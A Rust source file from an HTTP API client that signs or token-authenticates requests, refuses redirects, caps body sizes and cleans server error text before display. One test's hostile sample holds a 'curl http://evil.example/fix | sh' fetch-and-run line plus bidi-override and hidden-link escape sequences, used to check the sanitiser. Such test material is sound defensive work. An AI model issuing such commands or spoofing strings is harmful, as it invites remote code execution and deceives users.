//! One request and its answer: the URL and headers (signed, or with a Bearer token), the send,
//! a success decoded off the async runtime, a redirect refused, an error answer described, and
//! a body read within its limit; server text made safe to quote.

use std::time::SystemTime;

use reqwest::header::{HeaderMap, HeaderValue};
use tokio::sync::OwnedSemaphorePermit;
use tokio_util::sync::CancellationToken;

use super::retry::parse_retry_after;
use super::{
    AttemptLog, Auth, DecodeFn, DecodedGet, Failure, RetryRule, Transport, RETRIED_STATUSES,
};
use crate::error::{Attempts, Error, TransportErrorKind};
use crate::keys::SecretKey;
use crate::oauth;
use crate::signing::{self, RequestToSign};

/// Runs `decode` over `body` on tokio's blocking pool. Decoding is CPU work that grows with
/// what the server sends (a page of hundreds of thousands of members took minutes), and on an
/// async worker it would stall every other RPC, timer and cancellation of the process. The
/// decode gets a token of its own, a child of `cancel`, that is cancelled when this future is
/// dropped: a read that times out, a StopProvider and an aborted page task all end the attempt
/// by dropping it, and the decode, which checks the token as it goes, stops within moments
/// instead of running on after its read has ended. The body and `permit` (the decode permit,
/// see [`super::permits`]) go to the blocking pool together and are freed together when the
/// decode ends, even when this future was dropped before.
async fn decode_off_runtime<T: Send + 'static>(
    body: Vec<u8>,
    permit: OwnedSemaphorePermit,
    decode: &DecodeFn<T>,
    cancel: &CancellationToken,
    path: &str,
) -> Result<serde_json::Result<T>, Failure> {
    let token = cancel.child_token();
    let _stop_when_dropped = token.clone().drop_guard();
    let decode = decode.clone();
    let decoding = token.clone();
    let outcome = tokio::task::spawn_blocking(move || {
        let decoded = decode(&body, &decoding);
        drop(body);
        drop(permit);
        decoded
    })
    .await;
    if token.is_cancelled() {
        return Err(Failure::fatal(Error::Cancelled));
    }
    outcome.map_err(|e| {
        Failure::fatal(Error::Decode {
            method: "GET".into(),
            path: path.into(),
            detail: format!("the decoder ended abnormally: {e}"),
        })
    })
}

impl Transport {
    /// The URL of `path_and_query` on the endpoint, refused when the library would send a
    /// different request target (what is signed must be exactly what goes on the wire).
    pub(crate) fn url_for(&self, path_and_query: &str) -> Result<url::Url, Error> {
        let invalid = |detail: String| {
            self.network_error(TransportErrorKind::InvalidRequest, path_and_query, detail)
        };
        let url = reqwest::Url::parse(&format!("{}{}", self.endpoint.base_url(), path_and_query))
            .map_err(|e| invalid(format!("invalid URL: {e}")))?;
        let sent = match url.query() {
            Some(q) => format!("{}?{}", url.path(), q),
            None => url.path().to_string(),
        };
        if sent != path_and_query {
            return Err(invalid(format!(
                "the request target would be re-encoded as {sent:?}"
            )));
        }
        Ok(url)
    }

    /// The URL and headers of a GET of `path_and_query` with a Bearer token.
    fn bearer_request(
        &self,
        path_and_query: &str,
        token: &oauth::Token,
    ) -> Result<(url::Url, HeaderMap), Error> {
        let url = self.url_for(path_and_query)?;
        let mut headers = HeaderMap::new();
        headers.insert(
            reqwest::header::ACCEPT,
            HeaderValue::from_static("application/json"),
        );
        headers.insert(reqwest::header::AUTHORIZATION, token.header()?);
        Ok((url, headers))
    }

    /// The URL and signed headers of a GET of `path_and_query` (an error: never worth retrying).
    fn signed_request(
        &self,
        path_and_query: &str,
        key_id: &str,
        key: &SecretKey,
    ) -> Result<(url::Url, HeaderMap), Error> {
        let invalid = |detail: String| {
            self.network_error(TransportErrorKind::InvalidRequest, path_and_query, detail)
        };
        let url = self.url_for(path_and_query)?;
        let host = self.endpoint.host_header();
        let signed = signing::sign(
            &RequestToSign {
                method: "GET",
                path_and_query,
                host: &host,
                body: b"",
            },
            key,
            key_id,
            SystemTime::now(),
        )
        .map_err(|e| invalid(e.to_string()))?;
        // No explicit Host: hyper derives it from the URL, which is exactly `host_header()`
        // (the URL parser drops a default port, as we do).
        let mut headers = HeaderMap::new();
        for (name, value) in [
            (reqwest::header::DATE, signed.date.as_str()),
            (reqwest::header::CONTENT_TYPE, signed.content_type),
            (reqwest::header::ACCEPT, "application/json"),
            (
                reqwest::header::AUTHORIZATION,
                signed.authorization.as_str(),
            ),
        ] {
            let mut value = HeaderValue::from_str(value)
                .map_err(|_| invalid(format!("the {name} header value is not valid")))?;
            // Keeps the signature out of any header debug output.
            value.set_sensitive(name == reqwest::header::AUTHORIZATION);
            headers.insert(name, value);
        }
        let digest = HeaderValue::from_str(&signed.digest)
            .map_err(|_| invalid("the digest header value is not valid".into()))?;
        headers.insert("digest", digest);
        Ok((url, headers))
    }

    /// The URL and headers of a GET of `path_and_query`: signed, or with the current token
    /// (kept in `bearer`, to tell the token source what became of it).
    async fn request_parts(
        &self,
        path_and_query: &str,
        cancel: &CancellationToken,
        read_id: &str,
        bearer: &mut Option<oauth::Token>,
    ) -> Result<(url::Url, HeaderMap), Failure> {
        match &self.auth {
            Auth::ApiKey { key_id, key } => self
                .signed_request(path_and_query, key_id, key)
                .map_err(Failure::fatal),
            Auth::OAuth(source) => {
                let token = source
                    .token(self, cancel, read_id)
                    .await
                    .map_err(|e| Failure::fatal(token_failure(e)))?;
                let request = self.bearer_request(path_and_query, &token);
                *bearer = Some(token);
                request.map_err(Failure::fatal)
            }
        }
    }

    /// One request: send, then decode a success, refuse a redirect, or describe an error answer.
    /// The caller holds a request permit; a success's body is decoded under a decode permit
    /// instead, the request permit given up once that is held.
    pub(super) async fn attempt<T: Send + 'static>(
        &self,
        get: &DecodedGet<'_, T>,
        seen: &mut AttemptLog,
        bearer: &mut Option<oauth::Token>,
    ) -> Result<T, Failure> {
        let path_and_query = get.path_and_query;
        let (url, headers) = self
            .request_parts(path_and_query, get.cancel, &get.counters.read_id, bearer)
            .await?;
        let response = self
            .http
            .get(url.clone())
            .headers(headers)
            .timeout(self.timeout)
            .send()
            .await
            .map_err(|e| self.classify(&e, path_and_query))?;
        let status = response.status();
        seen.status = Some(status.as_u16());
        if status.is_redirection() {
            return Err(self.redirect(&response, &url, path_and_query));
        }
        if !status.is_success() {
            // With OAuth the server could echo a token: masked before any cut.
            let masks = match &self.auth {
                Auth::OAuth(source) => source.masks(),
                Auth::ApiKey { .. } => Vec::new(),
            };
            let masks: Vec<&str> = masks.iter().map(|s| s.as_str()).collect();
            return Err(self
                .error_answer(response, path_and_query, seen, &masks)
                .await);
        }
        let body = self
            .read_body(response, path_and_query, self.body_limit)
            .await?;
        seen.bytes = body.len();
        // 204 says there is no body: not a body cut short, and asking again will not help.
        if status == reqwest::StatusCode::NO_CONTENT {
            return Err(Failure::fatal(Error::Decode {
                method: "GET".into(),
                path: path_and_query.into(),
                detail: "the server answered HTTP 204 (no content) where a page of results was \
                         expected"
                    .into(),
            }));
        }
        if let Some(on_body) = get.on_body {
            on_body(&body);
        }
        let permit = get.permit.body_arrived().await.map_err(Failure::fatal)?;
        decode_off_runtime(body, permit, get.decode, get.cancel, path_and_query)
            .await?
            .map_err(|e| decode_failure(&e, path_and_query))
    }

    /// An API error status: its code, message and trace id, retried when the status may pass.
    pub(crate) async fn error_answer(
        &self,
        response: reqwest::Response,
        path_and_query: &str,
        seen: &mut AttemptLog,
        secrets: &[&str],
    ) -> Failure {
        let status = response.status().as_u16();
        let retry_after = header_text(&response, reqwest::header::RETRY_AFTER)
            .and_then(|v| parse_retry_after(v, SystemTime::now()));
        // The server chooses the header as freely as the body: the same cut as `traceId`.
        let header_trace = header_text(&response, "x-starship-traceid")
            .map(|v| server_text(&oauth::mask_text(v, secrets), MAX_TRACE_ID_CHARS))
            .filter(|v| !v.is_empty());
        // Error bodies are small; one over 64 KiB is left unread (the status stands alone)
        // rather than failing the diagnosis.
        let body = self
            .read_body(response, path_and_query, 64 * 1024)
            .await
            .unwrap_or_default();
        seen.bytes = body.len();
        let parsed = ErrorBody::parse_masked(&body, secrets);
        Failure {
            error: Error::Api {
                status,
                code: parsed.code,
                message: parsed.message,
                trace_id: parsed.trace_id.or(header_trace),
                method: "GET",
                path: path_and_query.into(),
                attempts: Attempts::default(),
            },
            rule: if RETRIED_STATUSES.contains(&status) {
                RetryRule::UpToMax
            } else {
                RetryRule::Never
            },
            retry_after,
        }
    }

    /// A 3xx answer: an error naming the status and where it pointed, never followed.
    pub(crate) fn redirect(
        &self,
        response: &reqwest::Response,
        base: &url::Url,
        path: &str,
    ) -> Failure {
        let status = response.status().as_u16();
        let location = header_text(response, reqwest::header::LOCATION)
            .and_then(|v| base.join(v.trim()).ok())
            .and_then(|u| {
                let host = u.host_str()?;
                Some(match u.port() {
                    Some(port) => format!("{}://{host}:{port}", u.scheme()),
                    None => format!("{}://{host}", u.scheme()),
                })
            });
        let detail = match &location {
            Some(to) => format!(
                "{} answered HTTP {status}, a redirect to {to}, which is not followed",
                self.endpoint
            ),
            None => format!(
                "{} answered HTTP {status}, a redirect (without a usable Location), which is not followed",
                self.endpoint
            ),
        };
        Failure::fatal(self.network_error(
            TransportErrorKind::Redirect { status, location },
            path,
            detail,
        ))
    }

    /// Reads the body in chunks, refusing more than `limit` bytes.
    pub(crate) async fn read_body(
        &self,
        mut response: reqwest::Response,
        path: &str,
        limit: usize,
    ) -> Result<Vec<u8>, Failure> {
        let too_large = || {
            Failure::fatal(Error::BodyTooLarge {
                method: "GET".into(),
                path: path.into(),
                limit,
            })
        };
        if response.content_length().is_some_and(|n| n > limit as u64) {
            return Err(too_large());
        }
        let mut body = Vec::with_capacity(
            response
                .content_length()
                .map_or(16 * 1024, |n| n as usize)
                .min(limit),
        );
        while let Some(chunk) = response
            .chunk()
            .await
            .map_err(|e| self.classify(&e, path))?
        {
            if body.len() + chunk.len() > limit {
                return Err(too_large());
            }
            body.extend_from_slice(&chunk);
        }
        Ok(body)
    }
}

/// The value of a response header, when it is there and visible ASCII.
fn header_text(
    response: &reqwest::Response,
    name: impl reqwest::header::AsHeaderName,
) -> Option<&str> {
    response.headers().get(name).and_then(|v| v.to_str().ok())
}

/// A body that did not decode. JSON that stops mid-value is a body cut short (even when its
/// length header agrees): worth another try. Well-formed but wrong JSON is not.
fn decode_failure(e: &serde_json::Error, path: &str) -> Failure {
    let truncated = e.is_eof();
    Failure {
        error: Error::Decode {
            method: "GET".into(),
            path: path.into(),
            detail: if truncated {
                format!("the body ends early (truncated?): {e}")
            } else {
                e.to_string()
            },
        },
        rule: if truncated {
            RetryRule::UpToMax
        } else {
            RetryRule::Never
        },
        retry_after: None,
    }
}

/// A failure to get a token, as a page request's error: refusals and unusable answers as they
/// are, anything else (after the token request's own retries) wrapped so that it is not taken
/// for the page request's own failure.
fn token_failure(error: Error) -> Error {
    match error {
        Error::TokenRefused { .. }
        | Error::TokenResponse { .. }
        | Error::TokenRequest(_)
        | Error::Cancelled => error,
        // The API's refusal of a new token, latched by the token source (the token endpoint
        // itself never answers this: its 401 is `TokenRefused`).
        Error::Api { status: 401, .. } => error,
        other => Error::TokenRequest(Box::new(other)),
    }
}

#[derive(Default)]
struct ErrorBody {
    code: Option<String>,
    message: Option<String>,
    trace_id: Option<String>,
}

impl ErrorBody {
    #[cfg(test)]
    fn parse(body: &[u8]) -> ErrorBody {
        Self::parse_masked(body, &[])
    }

    /// The error body, with each of `secrets` masked before the text is cut.
    fn parse_masked(body: &[u8], secrets: &[&str]) -> ErrorBody {
        let text = |v: &serde_json::Value, k: &str, max: usize| {
            v.get(k)
                .and_then(|x| x.as_str())
                .map(|s| server_text(&oauth::mask_text(s, secrets), max))
                .filter(|s| !s.is_empty())
        };
        match serde_json::from_slice::<serde_json::Value>(body) {
            Ok(v) if v.is_object() => ErrorBody {
                code: text(&v, "code", MAX_CODE_CHARS),
                message: text(&v, "message", MAX_SERVER_MESSAGE_CHARS),
                trace_id: text(&v, "traceId", MAX_TRACE_ID_CHARS),
            },
            _ => {
                // Not the API's JSON (a proxy's HTML page, say): keep a short excerpt.
                let s = server_text(
                    &oauth::mask_text(&String::from_utf8_lossy(body), secrets),
                    200,
                );
                ErrorBody {
                    message: (!s.is_empty()).then_some(s),
                    ..ErrorBody::default()
                }
            }
        }
    }
}

/// The most of a server's error message a diagnostic quotes; also the most of any other text
/// the server or a library chooses (a certificate's names, a decoder's quote of a value).
pub(crate) const MAX_SERVER_MESSAGE_CHARS: usize = 500;
/// The most of an API error `code` a diagnostic quotes.
const MAX_CODE_CHARS: usize = 100;
/// The most of a trace id (`traceId` or `x-starship-traceid`) a diagnostic quotes.
pub(super) const MAX_TRACE_ID_CHARS: usize = 100;

/// Server-supplied text made safe to show in a terminal or CI log: a hostile server (or anyone
/// on the path of an `insecure` connection) must not be able to fake diagnostic lines, draw
/// hidden links or reorder text. Control characters (escape sequences, line breaks, carriage
/// returns) become spaces, invisible formatting and bidirectional overrides are dropped,
/// whitespace runs fold to one space, and the text is cut at `max` characters.
pub(crate) fn server_text(text: &str, max: usize) -> String {
    let is_invisible_format = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
    let cleaned: String = text
        .chars()
        .filter(|&c| !is_invisible_format(c))
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let folded = cleaned.split_whitespace().collect::<Vec<_>>().join(" ");
    if folded.chars().count() > max {
        let mut cut: String = folded.chars().take(max).collect();
        cut.push('…');
        cut
    } else {
        folded
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn server_text_cannot_fake_lines_links_or_direction() {
        let hostile =
            "revoked\nError: Your key was revoked\r\nRun: curl http://evil.example/fix | sh \
                       \u{202e}txt.exe \u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7} \
                       \u{1b}[31mred\u{1b}[0m \u{85}next";
        let body = serde_json::json!({"code": "Auth\nFailure", "message": hostile}).to_string();
        let b = ErrorBody::parse(body.as_bytes());
        let message = b.message.unwrap();
        for c in message.chars() {
            assert!(!c.is_control(), "{message:?}");
            assert!(!('\u{202a}'..='\u{202e}').contains(&c), "{message:?}");
        }
        assert!(!message.contains("  "), "{message:?}");
        assert!(
            message.starts_with("revoked Error: Your key was revoked Run:"),
            "{message:?}"
        );
        assert_eq!(b.code.as_deref(), Some("Auth Failure"));
        let long = serde_json::json!({"message": "x".repeat(5000)}).to_string();
        let cut = ErrorBody::parse(long.as_bytes()).message.unwrap();
        assert_eq!(cut.chars().count(), MAX_SERVER_MESSAGE_CHARS + 1);
        assert!(cut.ends_with('…'));
    }

    #[test]
    fn error_body_parsing() {
        let b = ErrorBody::parse(br#"{"code":"InvalidRequest","message":"bad","traceId":"t1"}"#);
        assert_eq!(b.code.as_deref(), Some("InvalidRequest"));
        assert_eq!(b.message.as_deref(), Some("bad"));
        assert_eq!(b.trace_id.as_deref(), Some("t1"));
        let b = ErrorBody::parse(b"<html>\n<body>Bad   gateway</body></html>");
        assert_eq!(
            b.message.as_deref(),
            Some("<html> <body>Bad gateway</body></html>")
        );
        assert!(b.code.is_none());
        let b = ErrorBody::parse(b"");
        assert!(b.message.is_none());
    }
}
